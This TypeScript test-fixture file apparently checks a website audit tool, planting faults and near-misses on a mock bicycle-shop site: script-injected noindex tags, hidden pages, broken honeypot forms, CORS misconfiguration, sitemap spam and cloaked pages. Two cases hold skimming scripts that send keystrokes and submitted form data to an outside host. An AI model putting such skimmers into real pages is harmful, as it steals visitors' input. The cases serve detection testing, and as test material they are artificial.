import {
  ABOUT,
  type AccuracyCase,
  add,
  at,
  bodyOf,
  CARGO,
  CHAIN,
  CITY,
  CONTACT,
  copyPage,
  EVERY_PAGE,
  edit,
  full,
  HOME,
  head,
  header,
  jsonLd,
  link,
  main,
  RAIN,
  TOUR,
  TYRES,
} from "./planting.ts";
import { redirect, type World } from "./world.ts";

const OWN = "oakhillcycles.com";
const FIELDS =
  '<input name="email" type="email" aria-label="E-mail"><textarea name="text" aria-label="Text"></textarea>';
const PRODUCTS = [TOUR, CITY, CARGO];

function script(rule: string, path: string, fault: string, nearMiss: string): AccuracyCase {
  return {
    rule,
    fault: (w) => head(w, path, `<script>${fault}</script>`),
    nearMiss: (w) => head(w, path, `<script>${nearMiss}</script>`),
  };
}

function formed(fault: string, nearMiss: string): AccuracyCase {
  const form = (html: string) => (w: World) => {
    add(w, "/senden", "<!doctype html><title>Danke</title><p>Danke");
    main(w, CONTACT, `<form method="post" action="/senden">${FIELDS}${html}</form>`);
  };
  return { rule: "form_fault", fault: form(fault), nearMiss: form(nearMiss) };
}

/** The first bytes of a file that has so many points. */
function png(width: number, height: number): Uint8Array {
  const bytes = new Uint8Array(200);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  const view = new DataView(bytes.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  return bytes;
}

function pictured(w: World, [width, height]: [number, number], type = "image/png"): void {
  add(w, "/img/lager.png", png(800, 500), { "content-type": type });
  main(w, ABOUT, `<img src="/img/lager.png" alt="The store room" width="${width}" height="${height}">`);
}

function listed(w: World, paths: readonly string[]): void {
  const entries = paths.map((path) => `<url><loc>${full(path)}</loc></url>`).join("");
  add(
    w,
    "/sitemap-extra.xml",
    `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${entries}</urlset>`,
    {
      "content-type": "application/xml",
    },
  );
  edit(w, "/robots.txt", [/$/, `\nSitemap: ${full("/sitemap-extra.xml")}\n`]);
}

function numbered(name: (at: number) => string): string[] {
  return Array.from({ length: 8 }, (_, at) => name(at));
}

/** Bicycles with a German version each but the last, which has one or has none. */
function translated(w: World, hasOther: boolean): void {
  const paths = numbered((at) => `/raeder/modell-${at}/`);
  for (const [n, path] of paths.entries()) {
    copyPage(w, TOUR, path);
    link(w, ABOUT, path);
    if (n === paths.length - 1 && !hasOther) continue;
    copyPage(w, TOUR, `/de${path}`);
    link(w, ABOUT, `/de${path}`);
    if (n === paths.length - 1) continue;
    const tags = `<link rel="alternate" hreflang="en" href="${full(path)}"><link rel="alternate" hreflang="de" href="${full(`/de${path}`)}">`;
    head(w, path, tags);
    head(w, `/de${path}`, tags);
  }
}

function containers(w: World, [all, one]: [string, string], on: readonly string[]): void {
  const loader = (id: string) => `<script async src="https://www.googletagmanager.com/gtm.js?id=${id}"></script>`;
  for (const path of EVERY_PAGE) head(w, path, loader(all));
  for (const path of on) head(w, path, loader(one));
}

/** What page code, single answers and crawlers' files do that no visitor sees. */
export const CODE_CASES: AccuracyCase[] = [
  script(
    "head_by_script",
    TOUR,
    `if(location.hostname!=='vorschau.example'){var m=document.createElement('meta');m.name='robots';m.content='noindex';document.head.appendChild(m)}`,
    `if(location.hostname!=='${OWN}'){var m=document.createElement('meta');m.name='robots';m.content='noindex';document.head.appendChild(m)}`,
  ),
  script(
    "head_by_script",
    CITY,
    `document.write('<meta name="robots" content="noindex, nofollow">')`,
    `if (/staging|preview/.test(location.host)) document.write('<meta name="robots" content="noindex, nofollow">')`,
  ),
  script(
    "head_by_script",
    CARGO,
    `var host=location.hostname;if(host.includes('preview')){boot()}else{const t=document.createElement('meta');t.setAttribute('name','robots');t.setAttribute('content','noindex');document.head.append(t)}`,
    `var host=location.hostname;if(!host.includes('preview'))return;const t=document.createElement('meta');t.setAttribute('name','robots');t.setAttribute('content','noindex');document.head.append(t)`,
  ),
  script(
    "injected_spam",
    CONTACT,
    "document.addEventListener('keyup',e=>{new Image().src='https://zaehl-js.example/p.gif?v='+encodeURIComponent(e.target.value)})",
    "document.addEventListener('keyup',e=>{fetch('https://places.example/find?q='+e.target.value).then(r=>r.json()).then(show)})",
  ),
  script(
    "injected_spam",
    CONTACT,
    "document.forms[0].addEventListener('submit',function(){navigator.sendBeacon('https://zaehl-js.example/c',new FormData(this))})",
    "document.forms[0].addEventListener('submit',function(){navigator.sendBeacon('/c',new FormData(this))})",
  ),
  script(
    "page_unseen",
    TYRES,
    "document.documentElement.style.opacity='0';setTimeout(function(){document.documentElement.style.opacity=''},3000)",
    "addEventListener('click',function(){document.body.style.opacity='0';setTimeout(function(){leave()},3000)})",
  ),
  {
    rule: "page_unseen",
    fault: (w) =>
      head(
        w,
        RAIN,
        "<style>.test-pending{visibility:hidden}</style><script>const h=document.documentElement;h.classList.add('test-pending');setTimeout(()=>h.classList.remove('test-pending'),2500)</script>",
      ),
    nearMiss: (w) =>
      head(
        w,
        RAIN,
        "<style>.note{visibility:hidden}</style><script>const h=document.querySelector('.bar');h.classList.add('note');setTimeout(()=>h.remove(),2500)</script>",
      ),
  },
  {
    rule: "chats_several",
    fault: (w) =>
      head(
        w,
        ABOUT,
        '<script async src="https://client.crisp.chat/l.js"></script><script>s.src="https://embed.tawk.to/5f1/default"</script>',
      ),
    nearMiss: (w) =>
      head(
        w,
        ABOUT,
        '<script async src="https://client.crisp.chat/l.js"></script><a href="https://tawk.to/">tawk.to</a>',
      ),
  },
  {
    rule: "counted_twice",
    fault: (w) => containers(w, ["GTM-AB12CD3", "GTM-ZZ98YX7"], [CHAIN]),
    nearMiss: (w) => containers(w, ["GTM-AB12CD3", "GTM-ZZ98YX7"], EVERY_PAGE),
  },
  formed(
    '<div style="position:absolute;left:-9999px" aria-hidden="true"><input id="website" name="website" required></div><button>Send</button>',
    '<div style="position:absolute;left:-9999px" aria-hidden="true"><input id="website" name="website" tabindex="-1"></div><button>Send</button>',
  ),
  formed(
    "<label>Do not fill in <input name=honeypot></label><button>Send</button>",
    '<p class="apart"><label>Do not fill in <input name=honeypot></label></p><button>Send</button>',
  ),
  formed("<button disabled>Send</button>", "<button disabled>Send</button><button>Send all the same</button>"),
  formed(
    "<button disabled>Send</button>",
    '<button disabled id="go">Send</button><script>consent.onchange=()=>{go.disabled=!consent.checked}</script>',
  ),
  {
    rule: "uncrawlable_link",
    fault: (w) =>
      main(
        w,
        TOUR,
        '<nav class="breadcrumb"><a href="/">Start</a> › <a href="javascript:void(0)">Bicycles</a> › Touring</nav>',
      ),
    nearMiss: (w) =>
      edit(w, TOUR, [
        "</main>",
        `<nav class="breadcrumb"><a href="/">Start</a> › <a href="javascript:void(0)">${/<h1[^>]*>([^<]+)/.exec(bodyOf(w, TOUR))![1]}</a></nav></main>`,
      ]),
  },
  {
    rule: "error_text",
    fault: (w) => {
      at(w, CHAIN).body = '{"error":{"code":"502","message":"ROUTER_EXTERNAL_TARGET_ERROR"}}';
    },
    nearMiss: (w) => main(w, CHAIN, '<p>Our shifter answers {"error":{"code":"502"}} when the battery is low.</p>'),
  },
  {
    rule: "php_unsupported",
    fault: (w) => header(w, CARGO, ["server", "Apache/2.2.22 (Debian)"]),
    nearMiss: (w) => header(w, CARGO, ["server", "Apache/2.4.62 (Debian)"]),
  },
  {
    rule: "cors_credentials",
    fault: (w) => {
      header(w, CITY, ["access-control-allow-origin", "null"]);
      header(w, CITY, ["access-control-allow-credentials", "true"]);
    },
    nearMiss: (w) => {
      header(w, CITY, ["access-control-allow-origin", full("")]);
      header(w, CITY, ["access-control-allow-credentials", "true"]);
    },
  },
  {
    rule: "image_ratio_wrong",
    fault: (w) => pictured(w, [300, 900]),
    nearMiss: (w) => pictured(w, [400, 300]),
  },
  {
    rule: "image_broken",
    fault: (w) => pictured(w, [400, 250], "text/html; charset=utf-8"),
    nearMiss: (w) => pictured(w, [400, 250]),
  },
  {
    rule: "sitemap_spam",
    fault: (w) =>
      listed(
        w,
        numbered((n) => `/?s=replica-watches-${n}`),
      ),
    nearMiss: (w) =>
      listed(
        w,
        numbered((n) => `/?ref=watch-your-chain-${n}`),
      ),
  },
  {
    rule: "sitemap_spam",
    fault: (w) =>
      listed(
        w,
        numbered((n) => `/shop/${encodeURIComponent("安い自転車")}-${n}`),
      ),
    nearMiss: (w) =>
      listed(
        w,
        numbered((n) => `/shop/${encodeURIComponent("vélo-à-dos")}-${n}`),
      ),
  },
  {
    rule: "sitemap_lists_utility",
    fault: (w) => listed(w, ["/?s=lights"]),
    nearMiss: (w) => listed(w, ["/products/?colour=red"]),
  },
  {
    rule: "hreflang_left_out",
    fault: (w) => translated(w, true),
    nearMiss: (w) => translated(w, false),
  },
  {
    rule: "markup_left_out",
    fault: (w) => notices(w, "/hinweise/acht/"),
    nearMiss: (w) => notices(w, "/hinweise/liste/?page=1"),
  },
  {
    rule: "markup_language_wrong",
    fault: (w) => {
      edit(w, TOUR, [
        /(<meta property="og:locale" content=")[^"]*|<\/head>/,
        '<meta property="og:locale" content="es_ES"></head>',
      ]);
    },
    nearMiss: (w) => {
      head(w, TOUR, '<meta property="og:locale" content="en_GB"><meta property="og:locale:alternate" content="es_ES">');
    },
  },
  {
    rule: "language_forced",
    fault: (w) => {
      at(w, CITY).byAgent = { "de;q": { status: 302, body: "", headers: { location: full(HOME) } } };
    },
    nearMiss: (w) => {
      at(w, CITY).byAgent = { "pl;q": { status: 302, body: "", headers: { location: full(HOME) } } };
    },
  },
  {
    rule: "language_forced",
    fault: (w) => closedBut(w, "fr;q"),
    nearMiss: (w) => closedBut(w, "pl;q"),
  },
  {
    rule: "cloaked_pages",
    fault: (w) => {
      at(w, RAIN).byAgent.Googlebot = {
        status: 200,
        body: '<!doctype html><html lang="ja"><title>激安時計 通販店</title><h1>時計 激安</h1><p>送料無料 全品八割引',
      };
    },
    nearMiss: (w) => {
      at(w, RAIN).byAgent.Googlebot = { status: 200, body: bodyOf(w, RAIN).replace("<title>", "<title>Journal: ") };
    },
  },
];

/** A page that others are sent away from, on a site in English and French. */
function closedBut(w: World, language: string): void {
  head(w, TOUR, `<link rel="alternate" hreflang="fr" href="${full("/fr/touring/")}">`);
  copyPage(w, TOUR, "/fr/touring/");
  const body = bodyOf(w, "/fr/touring/");
  w.answers.set(full("/fr/touring/"), {
    ...redirect(full(HOME), 302),
    byAgent: {
      [language]: { status: 200, body, headers: { location: "", "content-type": "text/html; charset=utf-8" } },
    },
  });
  for (const path of PRODUCTS) link(w, path, "/fr/touring/");
}

/** Eight notices with data of their own, and one page in their folder without. */
function notices(w: World, bare: string): void {
  for (const path of [...numbered((n) => `/hinweise/nummer-${n}/`), bare]) {
    copyPage(w, RAIN, path);
    link(w, ABOUT, path);
    if (path !== bare) jsonLd(w, path, { "@type": "SpecialAnnouncement", name: path, text: "Open as usual." });
  }
}
